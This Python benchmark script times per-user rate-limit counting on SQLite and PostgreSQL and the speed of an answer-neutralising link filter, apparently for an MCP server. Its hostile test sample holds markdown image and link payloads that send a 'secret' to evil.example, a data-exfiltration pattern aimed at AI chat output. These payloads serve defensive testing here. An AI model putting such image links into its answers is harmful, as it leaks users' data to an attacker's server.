"""What the per-caller limits and the answer neutraliser cost, as figures.

    python -m bench.limits [--calls 2000] [--concurrency 16] [--postgres URL]

Counting: the time to count one tool call (``services.rate_limits.take_tool_call``, one
transaction with one upsert), one at a time and with concurrent callers, on SQLite and (with
--postgres, or VAULTRA_BENCH_POSTGRES_URL) PostgreSQL; and a burst of concurrent calls from one
user against its limit, which must admit exactly the limit. Neutralising: the time to make a
typical answer safe at once and as an 8-character stream (``core.answer_guard``), for a plain
answer and for one full of hostile markdown.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import time
import uuid
from pathlib import Path

from bench.common import median_ms, percentile_ms, table
from bench.mcp import BENCH
from vaultra_mcp.caller import Caller
from vaultra_mcp.core.answer_guard import AnswerGuard
from vaultra_mcp.core.link_safety import LinkPolicy, neutralise
from vaultra_mcp.db import describe, parse_database_url
from vaultra_mcp.errors import RateLimited
from vaultra_mcp.migrate import upgrade
from vaultra_mcp.services.deps import Deps
from vaultra_mcp.services.rate_limits import take_tool_call
from vaultra_mcp.settings import Settings

PLAIN = (
    "Voltline Gadgets scores 74/100 (fundable with conditions). Disputes are the weak spot: "
    "2.19% of payments in the last 90 days, above the 1% Mastercard threshold [doc: disputes]. "
    "Refunds are 5.52% of volume, close to the 5-10% norm for consumer electronics. "
) * 6
HOSTILE = (
    PLAIN
    + "![x](https://evil.example/?d=secret) [Stripe](https://docs.stripe.com/capital) "
    + "<img src='https://evil.example/p.png'> [more](https://evil.example/x) "
) * 2
POLICY = LinkPolicy.of(["https://docs.stripe.com/capital"], "https://app.vaultra.example")


def streamed(text: str, size: int = 8) -> str:
    guard = AnswerGuard(POLICY)
    shown = [guard.feed(text[i : i + size]) for i in range(0, len(text), size)]
    return "".join([*shown, guard.finish()])


def neutraliser_rows(repeat: int = 50) -> list[list[str]]:
    rows = []
    for name, text in (("plain", PLAIN), ("hostile", HOSTILE)):
        for how, work in (("at once", neutralise), ("streamed", None)):
            samples = []
            for _ in range(repeat):
                start = time.perf_counter()
                neutralise(text, POLICY) if work else streamed(text)
                samples.append(time.perf_counter() - start)
            rows.append(
                [
                    f"{name} ({len(text):,} chars)",
                    how,
                    f"{median_ms(samples):.2f}",
                    f"{percentile_ms(samples, 95):.2f}",
                ]
            )
    return rows


async def counting_rows(url: str, calls: int, concurrency: int) -> list[list[str]]:
    settings = Settings(
        database={"url": url},
        limits={"tool_calls_per_user": 10**9},
    )
    deps = Deps.build(settings)
    rows = []
    try:
        await upgrade(deps.db)
        base = uuid.uuid4().int % 10**9  # fresh keys: earlier runs' counts do not matter
        caller = Caller.user(base)
        one = []
        for _ in range(calls // 4):
            start = time.perf_counter()
            await take_tool_call(deps, caller)
            one.append(time.perf_counter() - start)
        rows.append(
            [
                describe(deps.db.url),
                "1",
                f"{median_ms(one):.2f}",
                f"{percentile_ms(one, 95):.2f}",
                f"{len(one) / sum(one):,.0f}",
            ]
        )

        async def worker(user: int, samples: list[float]) -> None:
            for _ in range(calls // concurrency):
                start = time.perf_counter()
                await take_tool_call(deps, Caller.user(user))
                samples.append(time.perf_counter() - start)

        many: list[float] = []
        began = time.perf_counter()
        await asyncio.gather(*(worker(base + 1 + i, many) for i in range(concurrency)))
        elapsed = time.perf_counter() - began
        rows.append(
            [
                describe(deps.db.url),
                str(concurrency),
                f"{median_ms(many):.2f}",
                f"{percentile_ms(many, 95):.2f}",
                f"{len(many) / elapsed:,.0f}",
            ]
        )
    finally:
        await deps.close()
    return rows


async def burst(url: str, limit: int = 120, callers: int = 300) -> str:
    settings = Settings(
        database={"url": url},
        limits={"tool_calls_per_user": limit},
    )
    deps = Deps.build(settings)
    caller = Caller.user(uuid.uuid4().int % 10**9)

    async def one() -> bool:
        try:
            await take_tool_call(deps, caller)
        except RateLimited:
            return False
        return True

    try:
        admitted = sum(await asyncio.gather(*(one() for _ in range(callers))))
    finally:
        await deps.close()
    where = describe(parse_database_url(url))
    return f"{where}: {callers} concurrent calls, limit {limit}: {admitted} admitted"


async def main_async(args: argparse.Namespace) -> None:
    BENCH.mkdir(exist_ok=True)
    sqlite_file = Path(BENCH / "limits.db")
    sqlite_file.unlink(missing_ok=True)
    databases = [f"sqlite+aiosqlite:///{sqlite_file}"] + ([args.postgres] if args.postgres else [])
    rows, bursts = [], []
    for url in databases:
        rows += await counting_rows(url, args.calls, args.concurrency)
        bursts.append(await burst(url))
    print("\ncounting one tool call against its caller's limit (ms)")
    print(table(["database", "concurrent callers", "median", "p95", "calls/s"], rows))
    print("\n".join(bursts))
    print("\nneutralising an answer (ms)")
    print(table(["answer", "how", "median", "p95"], neutraliser_rows()))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--calls", type=int, default=2000)
    parser.add_argument("--concurrency", type=int, default=16)
    parser.add_argument("--postgres", default=os.environ.get("VAULTRA_BENCH_POSTGRES_URL"))
    asyncio.run(main_async(parser.parse_args()))


if __name__ == "__main__":
    main()
